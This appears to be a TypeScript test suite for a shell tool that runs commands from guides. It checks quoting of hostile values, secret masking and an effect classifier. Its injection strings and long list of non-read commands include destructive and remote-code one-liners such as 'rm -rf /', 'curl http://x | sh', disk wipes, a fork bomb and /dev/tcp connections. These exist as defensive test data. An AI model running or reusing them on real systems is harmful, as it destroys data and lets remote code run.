// The `shell` tool with a real bash: contract, quoting of values in every place, effects, process groups, environment.
import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { compile } from '../src/compile/index.ts';
import { readGuide } from '../src/guide/index.ts';
import type { ActionFailure, ActionResult, Tool } from '../src/run/index.ts';
import { openTools } from '../src/tools/index.ts';
import { safeText } from '../src/tools/safe-text.ts';
import { classifyShell } from '../src/effect/index.ts';
import { actionOf, bindingsOf } from './support/action-of.ts';
import { toolContract } from './support/tool-contract.ts';

const folder = mkdtempSync(join(tmpdir(), 'tsg-shell-test-'));
after(() => rmSync(folder, { recursive: true, force: true }));

async function openShell(settings: object = {}): Promise<Tool> {
  const secrets = { TOKEN: { env: 'MY_TOKEN' } };
  const env = { ...process.env, MY_TOKEN: 'canary-4711-value', NOT_ALLOWED: 'visible' };
  const toolbox = await openTools({ folder, tools: { sh: { kind: 'shell', ...settings } }, secrets }, { env });
  return toolbox.tools[0] ?? assert.fail();
}

async function outcomeOf(
  tool: Tool,
  code: string,
  values: Record<string, string | number> = {},
  pattern?: RegExp,
): Promise<ActionResult | ActionFailure> {
  const rendered = tool.render(actionOf('bash', code, pattern), bindingsOf(values));
  if ('reason' in rendered) return rendered;
  const outcome = await tool.perform(rendered, { timeoutMs: 20_000, signal: new AbortController().signal });
  return outcome.kind === 'result' ? outcome.result : outcome.failure;
}

toolContract(
  'shell',
  () => openShell({ maxOutput: '64KB' }),
  () => ({
    unicode: actionOf('bash', "printf '%s' 'Grüße 漢字 🚀'"),
    hangs: actionOf('bash', "trap '' TERM; while true; do sleep 60; done"),
    huge: actionOf('bash', 'head -c 30000000 /dev/zero | tr "\\0" "x"'),
    binary: actionOf('bash', 'head -c 5000 /dev/zero'),
    empty: actionOf('bash', 'true'),
    echo: actionOf('bash', 'printf "%s" {value}'),
    crashes: actionOf('bash', 'kill -9 $$'),
    crashReason: 'crashed',
    badLogin: 'it logs in nowhere',
    read: (result) => result.text,
  }),
);

describe('shell', function () {
  this.timeout(20_000);
  let tool: Tool;
  before(async () => {
    tool = await openShell({ env: ['PATH'], secretEnv: { TOKEN: '${secret:TOKEN}' } });
  });

  it('says where a write goes with the values in it, and with none of a secret', async () => {
    const because = (secret: boolean): string => {
      const bindings = bindingsOf({ name: 'canary-4711' }).map((binding) => ({ ...binding, secret }));
      const rendered = tool.render(actionOf('bash', 'echo x > out-{name}.txt'), bindings);
      return 'reason' in rendered ? assert.fail(rendered.message) : tool.classify(rendered).because;
    };
    assert.equal(because(false), 'output goes to `out-canary-4711.txt`');
    assert.equal(because(true), 'output goes to `out-….txt`');
  });

  const nasty = `it's "$(touch ${join(folder, 'owned')})" \`touch ${join(folder, 'owned')}\` ; touch ${join(folder, 'owned')} & \${HOME} \\ 漢字 *`;
  for (const code of [
    'printf "%s" {v}',
    'printf "%s" "{v}"',
    "printf '%s' '{v}'",
    "printf '%s' $'{v}'",
    'x={v}; printf "%s" "$x"',
    'for x in {v}; do printf "%s" "$x"; done',
    'printf "%s" "$(printf "%s" {v})"',
    'cat <<< {v} | tr -d "\\n"',
    '[[ -n {v} ]] && printf "%s" {v}',
    'if true; then printf "%s" {v}; fi # {v}',
    '( printf "%s" {v} )',
    'case {v} in *) printf "%s" {v};; esac',
  ])
    it(`places a hostile value in ${code}`, async () => {
      const result = await outcomeOf(tool, code, { v: nasty });
      assert.ok('text' in result, JSON.stringify(result));
      assert.equal(result.text, nasty);
      assert.equal(existsSync(join(folder, 'owned')), false);
    });
  it('places `<pod>` and `${pod}`', async () => {
    assert.equal(((await outcomeOf(tool, 'echo <pod>', { pod: 'a b' }, /<(\w+)>/g)) as ActionResult).text, 'a b\n');
    assert.equal(
      ((await outcomeOf(tool, 'echo "${pod}"', { pod: 'a b' }, /\$\{(\w+)\}/g)) as ActionResult).text,
      'a b\n',
    );
  });
  it('runs a guide whose variables nothing sets, with hostile values for them', async () => {
    const code = `x="$ONE and \${TWO}"; printf "%s|%s|" "$x" $ONE; echo a b | awk '{print $2}'; printf '%s' '$ONE'`;
    const guide = readGuide(`# Variables\n\n1. Print them.\n\n   \`\`\`bash\n   ${code}\n   \`\`\`\n`);
    const { plan } = compile(guide, { file: 'guide.md', sha256: '' });
    const action = plan.nodes.flatMap(({ actions }) => actions)[0] ?? assert.fail();
    assert.deepEqual(action.parameters, ['ONE', 'TWO']);
    const rendered = tool.render(action, bindingsOf({ ONE: nasty, TWO: '$ONE' }));
    assert.ok('text' in rendered, JSON.stringify(rendered));
    const outcome = await tool.perform(rendered, { timeoutMs: 20_000, signal: new AbortController().signal });
    assert.ok(outcome.kind === 'result');
    assert.equal(outcome.result.text, `${nasty} and $ONE|${nasty}|b\n$ONE`);
    assert.equal(existsSync(join(folder, 'owned')), false);
  });
  it('shows the command with the values quoted in place', () => {
    const rendered = tool.render(actionOf('bash', `ls {d} "{d}" '{d}' # {d}`), bindingsOf({ d: `a'b "$x"` }));
    assert.ok('text' in rendered);
    assert.equal(rendered.text, `ls 'a'\\''b "$x"' "a'b \\"\\$x\\"" 'a'\\''b "$x"' # {d}`);
  });
  for (const code of [
    '{v} --version',
    'sudo {v}',
    'eval "{v}"',
    'bash -c "echo {v}"',
    'ssh host "ls {v}"',
    'echo $(( {v} + 1 ))',
    '[[ {v} -gt 5 ]]',
    'cat <<EOF\n{v}\nEOF',
    'echo `echo {v}`',
    'echo \\{v}',
    'x{v}=1',
    'for {v} in a; do echo; done',
    'echo ${x:-{v}}',
    'echo "unclosed {v}',
    "awk '{v}' file",
    'printf -v {v} x',
  ])
    it(`refuses a hostile value in ${JSON.stringify(code)}`, () => {
      const rendered = tool.render(actionOf('bash', code), bindingsOf({ v: 'x; $(id)' }));
      assert.ok('reason' in rendered, JSON.stringify(rendered));
      assert.equal(rendered.reason, 'invalid-parameter');
      assert.equal(code.slice(rendered.at?.start, rendered.at?.end), '{v}');
    });
  for (const [what, session, script] of [
    ['what was typed, and not what came back', '$ echo one\none\n$ echo two\ntwo', 'echo one\necho two'],
    ['prompts that name a machine', 'me@web-1:~/x$ echo one\n[root@web-1 etc]# echo two', 'echo one\necho two'],
    ['a line that goes on', '$ echo one \\\n>   two\none two\n$ echo three', 'echo one \\\ntwo\necho three'],
    ['a pipe that goes on', '  $ echo one |\n  cat\n  one', 'echo one |\n  cat'],
    ['a quote over lines', "$ echo 'one\ntwo'\nthree", "echo 'one\ntwo'"],
    ['a loop', '$ for i in 1 2; do\n  echo $i\ndone\n1\n2', 'for i in 1 2; do\n  echo $i\ndone'],
    ['a here-document', '$ cat <<EOF\n$ one\nEOF\none', 'cat <<EOF\n$ one\nEOF'],
    ['commands after comments', '# Look first.\n$ echo one', 'echo one'],
    ['all of what has no prompt', 'echo one\necho two', 'echo one\necho two'],
  ] as const)
    it(`takes of a session ${what}`, () => {
      for (const language of ['console', 'bash']) {
        const rendered = tool.render(actionOf(language, session), []);
        assert.ok('text' in rendered);
        assert.equal(rendered.text, script);
      }
    });
  it('runs what was typed in a session, with its values', async () => {
    const code = '$ printf "%s" {v}\nit was {v}\n$ printf " and %s" "{v}"';
    assert.equal(((await outcomeOf(tool, code, { v: nasty })) as ActionResult).text, `${nasty} and ${nasty}`);
    const refused = await outcomeOf(tool, '$ ls\nx\n$ sudo {v}', { v: 'a;b' });
    assert.ok('reason' in refused);
    assert.deepEqual(refused.at, { start: 14, end: 17 });
  });
  it('leaves the session of another program to a person', async () => {
    const toolbox = await openTools({ folder, tools: { sh: { kind: 'shell' } }, secrets: {} }, { env: {} });
    for (const code of [
      'mysql> SELECT 1;',
      'postgres=# \\dt',
      '127.0.0.1:6379> INFO',
      '>>> print(1)',
      'PS C:\\> Get-Date',
    ])
      assert.equal(toolbox.find(actionOf('console', code)), undefined, code);
    assert.equal(toolbox.find(actionOf('console', '$ ls'))?.name, 'sh');
  });
  it('refuses a value that would be an option', () => {
    const rendered = tool.render(actionOf('bash', 'rm {v}'), bindingsOf({ v: '-rf' }));
    assert.ok('reason' in rendered);
    assert.match(rendered.message, /begins with `-`/);
  });
  it('takes a plain word where a hostile one is refused', async () => {
    const result = await outcomeOf(tool, 'bash -c "echo {v}"; echo $(( {n} + 1 ))', { v: 'checkout-api', n: '41' });
    assert.equal((result as ActionResult).text, 'checkout-api\n42\n');
  });
  it('keeps both streams and the exit code', async () =>
    assert.deepEqual(await outcomeOf(tool, 'echo out; echo err >&2; exit 3'), {
      text: 'out\n',
      errorText: 'err\n',
      exitCode: 3,
      notes: [],
    }));
  it('passes on only the allowed environment, and blots secrets out', async () => {
    const result = (await outcomeOf(tool, 'echo "[$NOT_ALLOWED][$HOME][$TOKEN]"; env | wc -l')) as ActionResult;
    assert.match(result.text ?? '', /^\[\]\[\]\[\*\*\*\]\n/);
  });
  it('reads with no module of Python that lies in its folder', async function () {
    const version = spawnSync('python3', ['-c', 'import sys; print(sys.version_info >= (3, 11))'], {
      encoding: 'utf8',
    });
    if (version.stdout?.trim() !== 'True') {
      console.log('      not run: it needs Python 3.11 or newer');
      return this.skip();
    }
    mkdirSync(join(folder, 'json'));
    for (const name of ['__init__.py', 'tool.py'])
      writeFileSync(join(folder, 'json', name), `open(${JSON.stringify(join(folder, 'taken-over'))}, 'w')\n`);
    const code = `echo '{"a":1}' | python3 -m json.tool --compact`;
    const tool = await openShell();
    const rendered = tool.render(actionOf('bash', code), []);
    assert.ok('text' in rendered);
    assert.equal(tool.classify(rendered).effect, 'read');
    const outcome = await outcomeOf(tool, code);
    rmSync(join(folder, 'json'), { recursive: true });
    assert.equal('text' in outcome ? outcome.text : JSON.stringify(outcome), '{"a":1}\n');
    assert.ok(!existsSync(join(folder, 'taken-over')));
  });
  it('closes standard input', async () =>
    assert.equal(((await outcomeOf(tool, 'cat; echo done')) as ActionResult).text, 'done\n'));
  it('ends what the command leaves behind', async () => {
    const marker = join(folder, 'pid');
    const result = (await outcomeOf(tool, `sleep 300 & echo $! > ${marker}; echo started`)) as ActionResult;
    assert.equal(result.text, 'started\n');
    const pid = Number(readFileSync(marker, 'utf8'));
    const gone = (): boolean => {
      try {
        process.kill(pid, 0);
        return readFileSync(`/proc/${pid}/stat`, 'utf8').includes(') Z');
      } catch {
        return true;
      }
    };
    for (let i = 0; i < 200 && !gone(); i++) await new Promise((resolve) => setTimeout(resolve, 10));
    assert.ok(gone());
  });
  it('says what cannot be started', async () => {
    const none = await openShell({ bash: '/no/such/bash' });
    const missing = await none.check(new AbortController().signal);
    assert.equal(missing?.reason, 'unavailable');
    assert.match(
      missing?.message ?? '',
      /^`\/no\/such\/bash` cannot be started: there is no such program here\. `bash`/,
    );
    const nowhere = await openShell({ cwd: 'missing' });
    assert.match((await nowhere.check(new AbortController().signal))?.message ?? '', /`missing` does not exist/);
  });
  it('explains by parsing, and starts nothing', async () => {
    const explain = async (code: string) => {
      const rendered = tool.render(actionOf('bash', code), []);
      return 'reason' in rendered ? assert.fail() : tool.explain(rendered, new AbortController().signal);
    };
    assert.equal((await explain(`touch ${join(folder, 'owned')}`)).kind, 'accepted');
    assert.equal((await explain('if true; then')).kind, 'refused');
    assert.equal(existsSync(join(folder, 'owned')), false);
  });
  it('takes terminal escapes out', () => {
    assert.deepEqual(
      safeText(
        Buffer.from(
          '\u001b[31mred\u001b[0m \u001b]0;title\u0007\u001b]8;;http://x\u001b\\link\u001b]8;;\u001b\\ a\u202eb\r\nc\u0007',
        ),
        'output',
      ),
      {
        text: 'red link ab\nc',
        notes: [],
      },
    );
  });
});

describe('shell effects', () => {
  const read = [
    'ls -la /var/log',
    'df -h',
    'df -h | sort -k5 -rn | head -5',
    'ps aux | grep nginx | wc -l',
    'kubectl get pods -n prod -o wide',
    'kubectl -n prod logs deploy/api --tail=100',
    'kubectl describe pod x',
    'git log --oneline -5',
    'systemctl status nginx',
    'systemctl --no-pager status nginx',
    'journalctl -u nginx --since "1 hour ago" --no-pager',
    'curl -s http://localhost:8080/health',
    'curl -sS -o /dev/null -w "%{http_code}" https://x.example/',
    'du -sh /var/* 2>/dev/null | sort -h',
    'cat /proc/meminfo',
    'find /var -name "*.log" -size +100M',
    'uptime; free -m; who',
    'if [ -f /etc/hosts ]; then cat /etc/hosts; fi',
    'for f in /var/log/*.log; do echo "$f"; wc -l "$f"; done',
    "awk '{print $1}' access.log | sort | uniq -c | sort -rn",
    "awk '$5 > 80 {print $6}'",
    "sed -n '1,20p' file",
    "sed 's/a/b/g' file",
    'docker ps -a',
    'docker logs --tail 50 api',
    'x=$(df -h | wc -l); echo "$x"',
    'ping -c 3 host',
    'date -u +%s',
    'timeout 5 curl -s http://x/',
    'ss -tlnp',
    'ip addr show',
    'ls 2>&1',
    'cat < file',
    'grep -c ERROR app.log || true',
    'helm list -A',
    'aws ec2 describe-instances --region eu-west-1',
    'top -b -n 1 | head -20',
    'jq .items file.json',
    '/usr/bin/df -h',
    'while read -r line; do echo "$line"; done < file',
    'dig +short example.com',
  ];
  const notRead = [
    'rm -rf /',
    'ls > file',
    'ls >> file',
    'ls &> file',
    'echo x | tee file',
    'find . -delete',
    'find . -exec rm {} ;',
    'find . -exec rm {} +',
    "sed -i 's/a/b/' f",
    "sed 's/a/b/w f' x",
    "sed '1e rm x' f",
    "sed 's/a/rm x/e' f",
    "sed -n '1w f' x",
    'awk \'{system("rm x")}\'',
    'awk \'{print > "f"}\'',
    'awk \'{print "a;" > "f"}\'',
    'awk \'{print | "sh"}\'',
    'awk -f prog',
    'awk \'BEGIN{"rm x"|getline}\'',
    'eval ls',
    'echo cm0gLXJm | base64 -d | sh',
    'curl http://x | sh',
    'curl -X POST http://x',
    'curl -d a=b http://x',
    'curl -o f http://x',
    'curl -O http://x',
    'curl -sXDELETE http://x',
    'curl --data-binary @f http://x',
    'curl -T f http://x',
    'curl -K conf',
    'curl telnet://x',
    'curl -H "X-HTTP-Method-Override: DELETE" http://x',
    'curl -w "%output{f}x" http://x',
    'curl -so f http://x',
    'wget http://x',
    'wget -O f http://x',
    'sudo ls',
    'xargs rm',
    'ls | xargs -n1 rm',
    'kubectl delete pod x',
    'kubectl exec x -- ls',
    'kubectl apply -f x',
    'kubectl --kubeconfig=/tmp/x get pods',
    'kubectl get pods; kubectl scale deploy x --replicas=0',
    'kubectl rollout restart deploy/x',
    'kubectl cluster-info dump --output-directory=/x',
    'systemctl restart nginx',
    'systemctl stop x',
    'service nginx restart',
    'git push',
    'git -c core.pager=rm log',
    'git checkout .',
    'git log --output=f',
    'git grep -Orm x',
    'git branch -D x',
    'docker rm x',
    'docker exec x ls',
    'docker run x',
    'alias ls=rm; ls',
    'ls() { rm x; }; ls',
    'function cat { rm x; }; cat',
    '$(echo rm) x',
    '`echo rm` x',
    '$CMD x',
    'x=rm; $x f',
    'echo $(rm x)',
    'echo `rm x`',
    'cat <(rm x)',
    'ls > >(sh)',
    'cat <<EOF\n$(rm x)\nEOF',
    'bash -c ls',
    'sh script.sh',
    './ls',
    '. ./x',
    'source x',
    'exec ls',
    'nohup ls',
    'ls &',
    'PATH=/tmp ls',
    'PATH=/tmp; ls',
    'LD_PRELOAD=/x ls',
    'BASH_ENV=x ls',
    'GIT_PAGER=rm git log',
    'PAGER=rm git log',
    'IFS=x; ls',
    'x="-delete"; find . $x',
    'find . "$x"',
    'sort -o f f',
    'sort --output=f f',
    'sort --compress-program=rm f',
    'uniq a b',
    'date -s 12:00',
    'date 01010000',
    'hostname evil',
    'printf -v PATH x',
    'env rm x',
    'set -- a; "$@"',
    'echo ${x:=y}',
    'echo ${x@P}',
    'echo ${!x}',
    'echo $((x))',
    "x='a[$(rm f)]'; echo $((x))",
    '[[ $x -eq 1 ]]',
    '((x++))',
    'let x=1',
    'test -v x',
    'declare -i x',
    'export PATH=x',
    'trap "rm x" EXIT',
    'kill -9 1',
    'pkill x',
    'dd if=/dev/zero of=/dev/sda',
    'mkfs.ext4 /dev/sda',
    ':(){ :|:& };:',
    'cat < /dev/tcp/1.2.3.4/80',
    'exec 3<>/dev/tcp/x/80',
    'mount /dev/sda /mnt',
    'journalctl --vacuum-size=1M',
    'journalctl --rotate',
    'dmesg -C',
    'sysctl -w a=b',
    'sysctl a=b',
    'crontab -r',
    'iptables -F',
    'ip link set eth0 down',
    'ip addr flush dev eth0',
    'ss -K dst 1.2.3.4',
    'tar -xf x',
    'python3 -c "x"',
    'perl -e "x"',
    'ssh host ls',
    'psql -c "delete from t"',
    'mapfile -C rm x',
    'read PATH < f',
    'select x in a; do rm x; done',
    'coproc rm x',
    'watch rm x',
    'time rm x',
    '! rm x',
    'ls; rm x',
    'ls && rm x',
    'ls || rm x',
    '{ rm x; }',
    '( rm x )',
    'if rm x; then ls; fi',
    'case $(rm x) in a) ls;; esac',
    'timeout 5 rm x',
    'timeout 5 $x',
    'command rm x',
    'builtin eval x',
    '\\rm x',
    '"rm" x',
    "r''m x",
    '/bin/rm x',
    'history -c',
    'if true; then',
    '',
    '# only a comment',
    'aws s3 rm s3://x',
    'aws ec2 terminate-instances --instance-ids i',
    'gcloud compute instances delete x',
    'helm uninstall x',
    'truncate -s0 f',
    ': > f',
    '> f',
    'cp /dev/null f',
    'ls | sh',
    'tree -o f',
    'file -C -m x',
    'xxd -r a b',
    'less f',
    'lsof -D b',
    'top',
    'apt-get install x',
    'npm i',
    'rpm -e x',
    'ls {rm,x} > f',
    'echo "$(< /dev/tcp/x/1)"',
    'unset PATH',
    'enable -f x y',
    'hash -p /x ls',
    'complete -C rm ls',
    'bind -x x',
    'shopt -s x',
    'ulimit -n 5',
    'ip l s eth0 up',
    'pidstat -e rm x',
    'uniq - out',
    'uniq -- a b',
    'gcloud compute instances delete list',
    'az group delete -n show',
    'git grep -nOrm x',
    'sysctl -f x',
    'base64 -o f x',
    'file --comp -m x',
    'kubectl get pods -shttp://x',
  ];
  for (const code of read)
    it(`reads: ${code}`, () => assert.equal(classifyShell(code).effect, 'read', classifyShell(code).because));
  for (const code of notRead)
    it(`does not only read: ${code}`, () =>
      assert.notEqual(classifyShell(code).effect, 'read', classifyShell(code).because));
});
